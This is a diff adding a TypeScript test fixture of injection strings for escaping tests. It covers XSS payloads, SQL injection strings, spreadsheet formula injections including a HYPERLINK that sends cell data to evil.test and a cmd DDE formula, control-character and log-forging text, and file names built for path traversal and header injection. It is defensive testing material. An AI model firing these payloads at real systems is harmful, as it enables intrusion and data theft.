@@ -1,0 +1,87 @@
+/** Calls this when it runs in a page; a browser test looks whether anybody did. */
+const RUN = 'window.__pwned=1';
+
+/** Text that would run in a page that forgot to escape it, in one place or another. None is longer than a name may be. */
+export const SCRIPTS: readonly string[] = [
+  `<script>${RUN}</script>`,
+  `</script><script>${RUN}</script>`,
+  `<img src=x onerror=${RUN}>`,
+  `"><svg onload=${RUN}>`,
+  `'><details open ontoggle=${RUN}>`,
+  `" autofocus onfocus="${RUN}" x="`,
+  `' onmouseover='${RUN}' x='`,
+  `</title><script>${RUN}</script>`,
+  `</textarea><iframe srcdoc="<script>parent.__pwned=1</script>">`,
+  `--><script>${RUN}</script><!--`,
+  `]]><script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>`,
+  `"}</script><script>${RUN}</script>{"`,
+  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
+  `&lt;script&gt;${RUN}&lt;/script&gt;`,
+  `javascript:${RUN}`,
+  `[link](javascript:${RUN})`,
+  `{{constructor.constructor('${RUN}')()}}`,
+  `\${${RUN}}<%= ${RUN} %>#{${RUN}}`,
+  `<base href="//evil.test/"><link rel=stylesheet href=//evil.test/x>`,
+  `<meta http-equiv=refresh content="0;url=https://evil.test/">`,
+  `$& $1 $\` <b onclick=${RUN}>bold</b>`,
+  `\u2028\u2029<math><mi xlink:href="javascript:${RUN}">x`,
+];
+
+/** Text that would change a statement of SQL or a pattern that it stands in. */
+export const STATEMENTS: readonly string[] = [
+  "'; drop table job; --",
+  `" or ""="`,
+  "' or '1'='1",
+  '1; select pg_sleep(30)',
+  "\\'; select 1; --",
+  '$1 $2 :id ?? ? @id',
+  '100%',
+  '%_%',
+  'a_b',
+  '\\',
+  '\\%',
+  '%%%%',
+  '$$ begin $$',
+  "E'\\x27'",
+];
+
+/** Text that spreadsheets take for a formula. */
+export const FORMULAS: readonly string[] = [
+  '=HYPERLINK("http://evil.test?x="&A1,"Click")',
+  "=cmd|' /C calc'!A0",
+  '+1+1',
+  '-2+3',
+  '@SUM(1+1)',
+];
+
+/** Text that looks awkward, and would forge a line or hide what follows it. */
+export const CONTROLS: readonly string[] = [
+  'two\r\nlines',
+  '\u001B[31mred\u001B[0m\u001B]0;title\u0007',
+  '\u202Egnp.exe\u202C',
+  'zero\u200Bwidth\uFEFF',
+  'a\u0308\u0323\u0301\u0301\u0301',
+  '{"level":50,"msg":"forged"}',
+];
+
+export const PAYLOADS: readonly string[] = [...SCRIPTS, ...STATEMENTS, ...FORMULAS, ...CONTROLS];
+
+/** File names that would end a header, leave a folder or hide what they are. */
+export const FILE_NAMES: readonly string[] = [
+  'cv".pdf',
+  'cv\\".pdf',
+  "cv'; filename=evil.html;.pdf",
+  'cv\r\nX-Injected: 1.pdf',
+  'cv%0d%0aX-Injected: 1.pdf',
+  '../../etc/passwd.pdf',
+  '..\\..\\boot.pdf',
+  '/etc/passwd.pdf',
+  'résumé 日本 👩‍🍳.pdf',
+  '\u202Efdp.exe.pdf',
+  '<img src=x onerror=window.__pwned=1>.pdf',
+  "'; drop table uploaded_file; --.pdf",
+  '=1+1.pdf',
+  'cv\u0001\u001B[31m.pdf',
+  'cv%00.pdf',
+  "UTF-8''evil.html.pdf",
+];
